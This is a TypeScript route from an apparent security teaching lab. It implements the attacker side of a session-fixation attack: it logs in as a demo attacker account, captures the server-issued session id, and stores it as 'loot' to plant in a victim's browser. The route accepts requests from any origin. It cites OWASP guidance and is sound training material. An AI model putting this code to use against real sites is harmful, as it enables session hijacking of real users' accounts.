/**
 * POST /fixation/session: the first half of a session fixation. The attacker's SERVER signs in to
 * the session API with the attacker's own account (Jane) and keeps the session id it gets: a real,
 * live id the server itself issued. Planted in the victim's browser (by a sibling subdomain
 * setting a cookie for the parent domain, a man-in-the-middle on plain HTTP, an XSS — the lab
 * plays that part), it rides on the victim's login; whether it is still worth anything afterwards
 * is the question (POST /replay with `session_id`).
 *
 * Teaches: fixation needs no guessing: the attacker uses an id the server issued to him.
 *
 * Flow step ids: session.attack-fixation.obtain-id.
 * Reference: OWASP Session Management Cheat Sheet, "Session Fixation" and "Renew the Session ID
 * After Any Privilege Level Change"; OWASP WSTG-SESS-03.
 */
import { DEMO_USERS } from '@authlab/flows/demo-users';
import Router from '@koa/router';
import type { LootStore } from '../loot-store.ts';
import { allowAnyOrigin } from '../middleware/allow-any-origin.ts';
import { REPLAY_TIMEOUT_MS, SESSION_COOKIE_NAME } from './replay.ts';

/** Jane, the demo user the attacker controls (John is the victim). */
const ATTACKER_ACCOUNT = DEMO_USERS[1];

export async function obtainSessionId(targetOrigin: string): Promise<string | null> {
  if (ATTACKER_ACCOUNT === undefined) return null;
  const response = await fetch(`${targetOrigin}/api/session/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-Requested-With': 'authlab' },
    body: JSON.stringify({ email: ATTACKER_ACCOUNT.email, password: ATTACKER_ACCOUNT.password }),
    signal: AbortSignal.timeout(REPLAY_TIMEOUT_MS),
  });
  const prefix = `${SESSION_COOKIE_NAME}=`;
  const line = response.headers.getSetCookie().find((cookie) => cookie.startsWith(prefix));
  return line === undefined ? null : (line.slice(prefix.length).split(';')[0] ?? null);
}

export function createFixationSessionRouter(targetOrigin: string, loot: LootStore): Router {
  const router = new Router();
  router.options('/fixation/session', allowAnyOrigin());
  router.post('/fixation/session', allowAnyOrigin(), async (ctx) => {
    let sessionId: string | null = null;
    try {
      sessionId = await obtainSessionId(targetOrigin);
    } catch {
      // Reported below as no id.
    }
    if (sessionId === null) {
      ctx.status = 502;
      ctx.body = { error: { code: 'target_unreachable', message: 'The session API gave no id.' } };
      return;
    }
    loot.add({ kind: 'planted-session-id', from: null, data: { session_id: sessionId } });
    ctx.status = 201;
    ctx.body = { session_id: sessionId, cookie_name: SESSION_COOKIE_NAME };
  });
  return router;
}
